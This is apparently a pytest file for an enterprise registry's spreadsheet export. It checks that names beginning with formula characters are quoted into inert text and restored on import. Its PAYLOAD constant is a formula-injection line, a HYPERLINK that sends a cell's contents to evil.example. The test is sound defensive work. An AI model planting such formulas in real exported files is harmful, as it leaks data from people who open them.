"""Exported workbooks hold text as text, neutralised per OWASP (issue 15: an enterprise name =HYPERLINK(…)
came back as a live formula in the registry export and the problem ledger): a text starting with = + - @
tab or carriage return is a text cell with a quote in front; numbers stay numbers; the import takes the
quote off again, so export then import keeps the name."""
from __future__ import annotations

import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from engine.policy.cells import append_row, neutralise, restore

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")'
# Each character a spreadsheet may start a formula with; the registry strips a name's white space, so
# the tab and the carriage return reach it only inside a name.
NAMES = [PAYLOAD, "+86 023 7922 1234 黔江某公司", "-5+A1 黔江某公司", "@SUM(A1:A9) 黔江某公司", "=SUM(1)"]
CONTROL = ["\t=1+1 黔江某公司", "\r=1+1 黔江某公司"]


def written(values: list) -> list:
    """The cells of one row written with append_row, read back from the saved file."""
    book = Workbook()
    append_row(book.active, values)
    out = io.BytesIO()
    book.save(out)
    return list(next(iter(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(min_row=1, max_row=1))))


def test_text_a_spreadsheet_would_run_is_a_quoted_text_cell():
    cells = written([*NAMES, *CONTROL, "'=x", "正常名称", "O'Brien"])
    texts = [*NAMES, *CONTROL, "'=x"]
    assert [c.data_type for c in cells] == ["s"] * len(cells)
    assert [c.value for c in cells[:len(texts)]] == ["'" + t for t in texts]
    assert [c.value for c in cells[len(texts):]] == ["正常名称", "O'Brien"]


def test_numbers_and_dates_stay_numbers():
    cells = written([-5, 42, -1.5, Decimal("-3.25"), date(2026, 10, 9), True, None, "-5"])
    assert [c.value for c in cells[:4]] == [-5, 42, -1.5, -3.25] and [c.data_type for c in cells[:4]] == ["n"] * 4
    assert cells[4].is_date and cells[5].data_type == "b" and cells[6].value is None
    assert cells[7].value == "'-5" and cells[7].data_type == "s"  # the text "-5" is text, so quoted


@pytest.mark.parametrize("text", [*NAMES, *CONTROL, "'=x", "''", "'", "'abc", "O'Brien", "", "正常"])
def test_restore_gives_back_exactly_what_was_neutralised(text):
    assert restore(neutralise(text)) == text


def test_restore_leaves_a_quote_typed_before_a_plain_name_and_numbers_alone():
    assert restore("'t Hooft") == "'t Hooft" and restore(-5) == -5 and restore(None) is None


def test_without_it_openpyxl_writes_a_formula():
    book = Workbook()
    book.active.append([PAYLOAD])
    assert book.active["A1"].data_type == "f"


def the_dispatcher(zjtx):
    from engine.identity.authz import actor_for

    with zjtx.db.read() as session:
        return actor_for(session, "dispatcher")


def registered(zjtx) -> None:
    from tests.helpers import RECORD, uscc

    for number, name in enumerate(NAMES):
        code = uscc(f"91500114MA5U8X{number:02d}X")
        zjtx.enterprises.save(the_dispatcher(zjtx), {**RECORD, "name": name, "uscc": code},
                              years=[{"year": 2025, "revenue": 26_000_000, "net_profit": -120_000}])


def test_the_registry_export_quotes_formula_like_names_and_keeps_figures_numbers(zjtx):
    registered(zjtx)
    book = load_workbook(io.BytesIO(zjtx.enterprises.export_workbook()))
    names = {c.value: c for row in book["企业"].iter_rows(min_row=2) for c in row[:1]}
    assert set(names) == {"'" + n for n in NAMES}
    assert {c.data_type for c in names.values()} == {"s"}
    employees = [row[6] for row in book["企业"].iter_rows(min_row=2)]
    assert {(c.value, c.data_type) for c in employees} == {(180, "n")}
    profits = [row[4] for row in book["年度数据"].iter_rows(min_row=2)]
    assert {(c.value, c.data_type) for c in profits} == {(-120_000, "n")}


def test_export_then_import_keeps_the_names(zjtx):
    registered(zjtx)
    before = sorted(r["name"] for r in zjtx.enterprises.list(the_dispatcher(zjtx))[0])
    assert zjtx.enterprises.import_workbook(the_dispatcher(zjtx), zjtx.enterprises.export_workbook()) == {
        "created": 0, "updated": len(NAMES), "years": len(NAMES)}
    rows = zjtx.enterprises.list(the_dispatcher(zjtx))[0]
    assert sorted(r["name"] for r in rows) == before == sorted(NAMES)
    history = [h for r in rows for h in zjtx.enterprises.get(r["id"])["history"]]
    assert [h["source"] for h in history] == ["form"] * len(NAMES), "the import changed nothing"


def test_the_problem_ledger_quotes_a_formula_like_enterprise_name(zjtx):
    from engine.policy import ledgers
    from tests.helpers import REGISTRATION, Item

    for name in [*NAMES, *CONTROL]:
        Item(zjtx, {**REGISTRATION, "enterprise_name": name})
    with zjtx.db.read() as session:
        content = ledgers.problem_ledger(session, zjtx.workflows.tz, None, None, None)
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows(min_row=2))
    assert sorted(row[1].value for row in rows) == sorted("'" + n for n in [*NAMES, *CONTROL])
    assert {row[1].data_type for row in rows} == {"s"}
    assert {(row[9].value, row[9].data_type) for row in rows} == {(0, "n")}  # 退回次数: a number
